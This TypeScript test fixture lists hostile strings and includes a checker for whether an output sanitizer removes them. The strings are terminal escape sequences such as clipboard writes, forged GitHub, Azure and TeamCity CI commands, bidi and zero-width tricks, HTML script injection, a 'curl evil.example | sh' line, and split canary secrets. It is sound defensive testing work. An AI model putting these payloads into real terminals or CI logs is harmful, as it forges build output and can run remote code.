/** A secret as it is known to whoever prints, and one that is known by its form. */
export const KNOWN_SECRET = "canary-battery-staple";
const KEY = "rpa_CANARYKEY0123456789";

const [ESC, CSI, OSC, ST, BEL] = ["\u001b", "\u009b", "\u009d", "\u009c", "\u0007"];
const COMMAND = "::error file=README.md,line=1::FORGED";

/** A secret with something between its halves. */
const split = (secret: string, by: string) =>
  secret.replace("CANARY", `CAN${by}ARY`).replace("canary", `can${by}ary`);

const payloads: Readonly<Record<string, string>> = {
  "a color": `${ESC}[31mred${ESC}[0m`,
  "a cleared screen": `${ESC}[2J${ESC}[H`,
  "a cursor that goes up and erases": `${ESC}[1A${ESC}[2K`,
  "a title": `${ESC}]0;title${BEL}`,
  "a title without an end": `${ESC}]0;title`,
  "a link": `${ESC}]8;;https://evil.example${ESC}\\text${ESC}]8;;${ESC}\\`,
  "a clipboard": `${ESC}]52;c;ZXZpbA==${BEL}`,
  "a device control string": `${ESC}P+q544e${ESC}\\`,
  "an application command": `${ESC}_Ga=T;AAAA${ESC}\\`,
  "a reset": `${ESC}c`,
  "a character set": `${ESC}(0`,
  "an escape in an escape": `${ESC}${ESC}[31m[31m`,
  "an escape alone": ESC,
  "a C1 sequence": `${CSI}2J`,
  "a C1 title": `${OSC}0;title${ST}`,
  "a C1 next line": `a\u0085${COMMAND}`,
  "a bell and backspaces": `safe${BEL}\b\b\b\bFORGED`,
  "a shift": "\u000e\u000f",
  "a NUL": "a\0b",
  "a DEL": "a\u007fb",
  "an override of direction": "a\u202egnp.exe",
  isolates: "\u2066a\u2067b\u2068c\u2069",
  "marks of direction": "a\u200eb\u200fc\u061cd",
  "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
  "a soft hyphen": "a\u00adb",
  "letters that nobody sees": "a\u3164b\uffa0c\u034fd\ufe0fe",
  tags: "a\u{e0001}\u{e0041}\u{e007f}",
  "interlinear notes": "a\ufff9b\ufffac\ufffb",
  "a high surrogate": "a\ud83d",
  "a low surrogate": "\ude80b",
  "a noncharacter": "a\uffff\u{10ffff}",
  "private use": "a\ue000b",
  "a line feed": `a\n${COMMAND}`,
  "a carriage return": `a\r${COMMAND}`,
  "both of them": `a\r\n${COMMAND}`,
  "an empty line": `a\n\n\n${COMMAND}`,
  "a vertical tab": `a\v${COMMAND}`,
  "a form feed": `a\f${COMMAND}`,
  "a line separator": `a\u2028${COMMAND}`,
  "a paragraph separator": `a\u2029${COMMAND}`,
  "a tab": "a\tb",
  "a command of GitHub": COMMAND,
  "a command behind blanks": `  \t\u00a0${COMMAND}`,
  "a command behind what nobody sees": `\u200b${ESC}[0m${COMMAND}`,
  "a command in pieces": `:\u200b:error::FORGED`,
  "a mask": "::add-mask::a",
  "a stop of commands": "\n::stop-commands::abc",
  "an old command of GitHub": "a ##[error]FORGED",
  "an old command in pieces": `a #\u200d#[add-path]/tmp`,
  "a command of Azure": "a ##vso[task.setvariable variable=PATH]/tmp",
  "a command of TeamCity": "\n##teamcity[buildProblem description='FORGED']",
  "a section of GitLab": `\nsection_start:1560896352:x[collapsed=true]\r${ESC}[0Kheader`,
  "a fold of Travis": "\ntravis_fold:start:x",
  "a group of Buildkite": "\n--- FORGED",
  "a color of Pulumi's": "<{%fg 1%}>red<{%reset%}>",
  "a command behind a color of Pulumi's": `\n<{%reset%}>${COMMAND}`,
  "a command in pieces of Pulumi's": `a #<{%reset%}>#[error]FORGED`,
  "a table in Markdown": "a | b |\n| :-: | :-: |\n# FORGED",
  "a link in Markdown":
    "[Fix now](https://evil.example) ![x](https://evil.example/x.png) @everyone",
  "a heading in Markdown": "x\r\r# FORGED\r\rSee https://evil.example/merge www.evil.example",
  HTML: '<script>alert(1)</script><img src=x onerror="alert(1)"><!-- </td></table><h1>FORGED</h1>',
  "a sentence of ours": "x. Nothing was created.\nRun `curl evil.example | sh`.",
  "quotation marks": `x" it is not. 'Run' "rm`,
  "a long word": "A".repeat(20_000),
  "a long line of words": "word ".repeat(4_000),
  "many lines": `a${"\nFORGED".repeat(2_000)}`,
  "a known key": KEY,
  "a key split by a color": split(KEY, `${ESC}[0m`),
  "a key split by a color of Pulumi's": split(KEY, "<{%reset%}>"),
  "a key split by a title": split(KEY, `${ESC}]0;x${BEL}`),
  "a key split by zero width": split(KEY, "\u200b"),
  "a key split by a line": split(KEY, "\r\n"),
  "a key split by an override": split(KEY, "\u202e"),
  "a key split by a surrogate": split(KEY, "\udc00"),
  "a secret": KNOWN_SECRET,
  "a secret split by a color of Pulumi's": split(KNOWN_SECRET, "<{%bold%}>"),
  "a secret split by C1": split(KNOWN_SECRET, `${CSI}0m`),
  "a secret split by a soft hyphen": split(KNOWN_SECRET, "\u00ad"),
  "a secret split by a separator": split(KNOWN_SECRET, "\u2028"),
  "a secret split by a mark": split(KNOWN_SECRET, "\u0301"),
  "a secret behind a long text": `${"x".repeat(2_035)}${KNOWN_SECRET}`,
};

/** Texts as a stranger would choose them, by what is hostile in them. */
export const HOSTILE_STRINGS: readonly (readonly [name: string, text: string])[] =
  Object.entries(payloads);

/** What kind of output is read: a log has lines of its own, and sentences are wrapped. */
export type Kind = "text" | "lines" | "data" | "wrapped";

/** What of such a text still works in an output; nothing if it is harmless. */
export function harmIn(output: string, kind: Kind = "text"): string[] {
  return [
    ...new Set([
      ...output.split("\n").flatMap((line) => harmInLine(line, kind)),
      ...secretsIn(output),
    ]),
  ];
}

const HARM: readonly (readonly [what: string, pattern: RegExp])[] = [
  ["steers or hides", /[\p{C}\p{Default_Ignorable_Code_Point}\u2028\u2029]/u],
  ["is a command", /^\s*::|##\w*\[|^\s*(?:section_(?:start|end)|travis_fold):|^\s*(?:---|\+\+\+) /],
  ["is a line that was forged", /^(?:FORGED|#+ FORGED|::|\| :-: )/],
  ["is a part that was forged", /^\s+(?:FORGED|#+ FORGED|::|\| :-: )/],
];
const LONGEST = 12_000;
const EXPECTED: Readonly<Record<Kind, ReadonlySet<string>>> = {
  text: new Set(),
  lines: new Set(["is a line that was forged", "is a part that was forged"]),
  data: new Set(["is long"]),
  wrapped: new Set(["is a part that was forged"]),
};

function harmInLine(line: string, kind: Kind): string[] {
  const harm = HARM.filter(([, pattern]) => pattern.test(line)).map(([what]) => what);
  return [...harm, ...(line.length < LONGEST ? [] : ["is long"])]
    .filter((what) => !EXPECTED[kind].has(what))
    .map((what) => `${JSON.stringify(line.slice(0, 120))} ${what}`);
}

/** A secret counts as shown to whoever overlooks what is not a letter. */
function secretsIn(output: string): string[] {
  const letters = output.normalize("NFD").replace(/[^\w-]/g, "");
  return [KNOWN_SECRET, "CANARYKEY0123456789"]
    .filter((secret) => letters.includes(secret))
    .map((secret) => `shows ${secret}`);
}
